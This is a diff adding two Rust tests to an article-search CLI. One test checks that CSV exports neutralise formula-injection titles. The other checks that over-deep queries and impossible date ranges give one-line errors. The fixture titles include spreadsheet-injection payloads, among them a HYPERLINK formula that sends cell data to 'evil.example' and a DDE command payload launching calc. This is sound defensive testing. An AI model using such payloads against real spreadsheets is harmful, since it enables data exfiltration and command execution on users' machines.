@@ -291,3 +291,117 @@ fn rusqlite_free_count(data: &Path) -> usize {
     let v: serde_json::Value = serde_json::from_str(&out).unwrap();
     v["total"].as_u64().unwrap() as usize
 }
+
+/// A scraped title that Excel would run as a formula goes into `search --csv` as text.
+#[test]
+fn csv_exports_cannot_run_formulas() {
+    let dir = temp("csv-formula");
+    let file = dir.join("in.jsonl");
+    let titles = [
+        r#"=HYPERLINK("http://evil.example/?"&A1,"科协")"#,
+        "+cmd|' /C calc'!A0 科协",
+        "@SUM(1+1) 科协",
+        "-2+3 科协年会",
+    ];
+    let mut lines = String::new();
+    for (i, t) in titles.iter().enumerate() {
+        lines.push_str(
+            &serde_json::json!({
+                "url": format!("https://a.example.org/{i}.html"),
+                "title": t,
+                "text": format!("省科协在北京举办第{i}次科普讲座，三百名市民参加。"),
+                "published_at": "2026-11-20 10:00",
+            })
+            .to_string(),
+        );
+        lines.push('\n');
+    }
+    std::fs::write(&file, lines).unwrap();
+    let data = dir.join("data");
+    let (code, out, err) = yuqing(&data, &["import", file.to_str().unwrap()]);
+    assert_eq!(code, 0, "{out}{err}");
+    let (code, csv, err) = yuqing(&data, &["search", "科协", "--csv", "--all"]);
+    assert_eq!(code, 0, "{err}");
+    let rows: Vec<&str> = csv.lines().skip(1).collect();
+    assert_eq!(rows.len(), 4, "{csv}");
+    for t in titles {
+        // each title is there, as text: a leading apostrophe, quoted when it holds a quote
+        let plain = format!(",'{t},");
+        let quoted = format!(",\"'{}\",", t.replace('"', "\"\""));
+        assert!(
+            csv.contains(&plain) || csv.contains(&quoted),
+            "{t} not neutralised in {csv}"
+        );
+    }
+    for row in rows {
+        for cell in row.split(',') {
+            assert!(
+                !cell
+                    .trim_start_matches('"')
+                    .starts_with(['=', '+', '-', '@']),
+                "{cell} in {row}"
+            );
+        }
+    }
+    std::fs::remove_dir_all(dir).ok();
+}
+
+/// Hostile or careless queries get a one-line error naming the limit, exit 2: never an abort,
+/// never a silent 0 hits.
+#[test]
+fn deep_queries_and_impossible_dates_are_errors() {
+    let dir = temp("query-limits");
+    let file = dir.join("in.jsonl");
+    std::fs::write(&file, articles(5)).unwrap();
+    let data = dir.join("data");
+    let (code, _, err) = yuqing(&data, &["import", file.to_str().unwrap()]);
+    assert_eq!(code, 0, "{err}");
+    let deep = format!("{}科协{}", "(".repeat(1_500), ")".repeat(1_500));
+    let nots = format!("{}科协", "NOT ".repeat(20_000));
+    for (q, says) in [
+        (deep.as_str(), "64 levels"),
+        (nots.as_str(), "limit is 4000"),
+    ] {
+        let (code, out, err) = yuqing(&data, &["search", q]);
+        assert_eq!(code, 2, "{out}{err}");
+        assert!(err.contains(says), "{err}");
+        assert_eq!(err.trim().lines().count(), 1, "{err}");
+    }
+    let (code, _, err) = yuqing(&data, &["search", "科协 date:1900-01-01..2262-04-12"]);
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("1900-01-01 to 2200-12-31"), "{err}");
+    let (code, _, err) = yuqing(
+        &data,
+        &[
+            "search",
+            "科协",
+            "--from",
+            "0001-01-01",
+            "--to",
+            "9999-12-31",
+        ],
+    );
+    assert_eq!(code, 2, "{err}");
+    assert!(err.contains("outside the range"), "{err}");
+    // the widest range that can be searched finds everything
+    let (code, out, err) = yuqing(
+        &data,
+        &[
+            "search",
+            "科协",
+            "--from",
+            "1900-01-01",
+            "--to",
+            "2200-12-31",
+            "--json",
+            "--all",
+        ],
+    );
+    assert_eq!(code, 0, "{err}");
+    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
+    let (_, all, _) = yuqing(&data, &["search", "科协", "--json", "--all"]);
+    let w: serde_json::Value = serde_json::from_str(&all).unwrap();
+    assert_eq!(v["total"], w["total"]);
+    assert!(v["total"].as_u64().unwrap() > 0);
+    std::fs::remove_dir_all(dir).ok();
+}
